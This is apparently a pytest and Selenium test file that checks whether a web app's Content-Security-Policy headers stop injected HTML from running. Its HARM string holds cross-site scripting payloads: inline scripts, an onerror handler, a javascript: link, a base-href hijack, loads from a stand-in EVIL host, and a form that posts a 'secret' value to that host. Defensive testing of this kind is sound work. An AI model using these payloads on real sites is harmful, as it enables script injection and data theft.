"""The second wall: if something ever got through our escaping, the headers would keep it from doing anything."""

from collections.abc import Iterator

import pytest
from selenium.webdriver.chrome.webdriver import WebDriver

from switchboard.pods import look, page
from tests.browser.eyes import Eyes
from tests.browser.site import Stand
from tests.pods.samples import ID, kitchen

RAN = "window.ran = (window.ran || []).concat"
HARM = f"""
<script>{RAN}("script")</script>
<script src="EVIL/script.js"></script>
<img src="data:," onerror='{RAN}("handler")'>
<img src="EVIL/picture.png">
<p id="styled" style="position: fixed; inset: 0">covered</p>
<style>h1 {{ color: rgb(1, 2, 3) !important; background: url(EVIL/style.png) }}</style>
<link rel="stylesheet" href="EVIL/sheet.css">
<iframe src="EVIL/frame.html"></iframe>
<object data="EVIL/object.html"></object>
<base href="EVIL/base/">
<a id="run" href='javascript:{RAN}("link")'>run</a>
<form id="form" action="EVIL/form"><input name="key" value="secret"></form>
"""


@pytest.fixture
def evil() -> Iterator[Stand]:
    """Somewhere else, where it is noted what is asked for."""
    with Stand() as stand:
        yield stand


def serve(stand: Stand, evil: Stand, html: str, end: str, policy: str | None) -> str:
    """A page of ours with harm in it, under a policy or none; its address."""
    assert end in html
    content = html.replace(end, HARM.replace("EVIL", evil.url) + end).encode()
    policed = {**look.HEADERS, "content-security-policy": policy} if policy else {}
    stand.others["/injected"] = 200, {"content-type": "text/html; charset=utf-8", **policed}, content
    return f"{stand.url}/injected"


def done(driver: WebDriver, evil: Stand) -> dict[str, object]:
    """What came of it."""
    driver.execute_script("document.querySelector('#run').click(); document.querySelector('#form').submit()")
    driver.execute_async_script("setTimeout(arguments[0], 400)")
    return {
        "ran": driver.execute_script("return window.ran || []"),
        "covers": driver.execute_script("return getComputedStyle(document.querySelector('#styled')).position")
        == "fixed",
        "repainted": driver.execute_script("return getComputedStyle(document.querySelector('h1')).color")
        == "rgb(1, 2, 3)",
        "based": driver.execute_script("return document.baseURI.startsWith(arguments[0])", evil.url),
        "asked": sorted(set(evil.asked)),
    }


NOTHING = {"ran": [], "covers": False, "repainted": False, "based": False, "asked": []}


def test_without_the_policy_the_harm_is_done(stand: Stand, evil: Stand, driver: WebDriver) -> None:
    """Else the tests below would show nothing."""
    driver.get(serve(stand, evil, page.live({**kitchen(), "blocks": []}), "</main>", None))
    assert set(driver.execute_script("return window.ran")) >= {"script", "handler"}
    assert {"GET /script.js", "GET /picture.png", "GET /sheet.css", "GET /frame.html"} <= set(evil.asked)


def test_on_the_live_page_nothing_of_it_runs_loads_or_shows(
    stand: Stand, evil: Stand, driver: WebDriver, eyes: Eyes
) -> None:
    driver.get(serve(stand, evil, page.live({**kitchen(), "blocks": []}), "</main>", look.LIVE_POLICY))
    assert (
        driver.execute_script("return getComputedStyle(document.querySelector('.cover')).color") == "rgb(255, 255, 255)"
    )
    assert done(driver, evil) == NOTHING
    said = " ".join(eyes.complaints())
    for directive in ("script-src", "style-src", "img-src", "form-action", "base-uri"):
        assert directive in said or "default-src" in said, directive


def test_on_the_page_for_what_is_gone_neither(stand: Stand, evil: Stand, driver: WebDriver) -> None:
    driver.get(serve(stand, evil, look.gone(), "</main>", look.LIVE_POLICY))
    assert driver.execute_script("return getComputedStyle(document.body).backgroundColor") == "rgb(42, 51, 63)"
    assert done(driver, evil) == NOTHING


def test_on_the_edit_page_only_our_own_script_runs(stand: Stand, evil: Stand, driver: WebDriver, eyes: Eyes) -> None:
    driver.get(serve(stand, evil, look.edit(ID), "</noscript>", look.EDIT_POLICY))
    driver.get(serve(stand, evil, look.edit(ID), "</body>", look.EDIT_POLICY))
    assert "API key" in eyes.text()
    assert driver.execute_script("return window.ran || []") == []
    assert evil.asked == []


def test_a_page_is_shown_in_no_frame(stand: Stand, evil: Stand, driver: WebDriver, eyes: Eyes) -> None:
    id = stand.pod(kitchen(), {})
    for path in (f"/pods/{id}/live", f"/pods/edit/{id}", "/pods/none/live"):
        frame = f"<!doctype html><title>x</title><iframe src='{stand.url}{path}'></iframe>".encode()
        evil.others["/frame"] = 200, {"content-type": "text/html"}, frame
        driver.get(f"{evil.url}/frame")
        driver.execute_async_script("setTimeout(arguments[0], 200)")
        assert "frame-ancestors" in " ".join(eyes.complaints())


def test_a_picture_over_https_may_be_shown(stand: Stand, driver: WebDriver, eyes: Eyes) -> None:
    """It is asked for, and not found from here: what matters is that no policy speaks against it."""
    driver.get(f"{stand.url}/pods/{stand.pod(kitchen(), {})}/live")
    driver.execute_script("document.querySelectorAll('img').forEach((each) => each.scrollIntoView())")
    driver.execute_async_script("setTimeout(arguments[0], 200)")
    assert "Content Security Policy" not in " ".join(eyes.complaints())


def test_axe_finds_what_is_there_to_be_found(stand: Stand, driver: WebDriver, eyes: Eyes) -> None:
    """Else its silence about our pages would say nothing."""
    driver.get(f"{stand.url}/pods/{stand.pod(kitchen(), {})}/live")
    driver.execute_script(
        "document.querySelector('img').removeAttribute('alt'); document.querySelector('main p').style.color = '#ccc'"
    )
    found = " ".join(eyes.faults())
    assert "critical image-alt" in found
    assert "serious color-contrast" in found
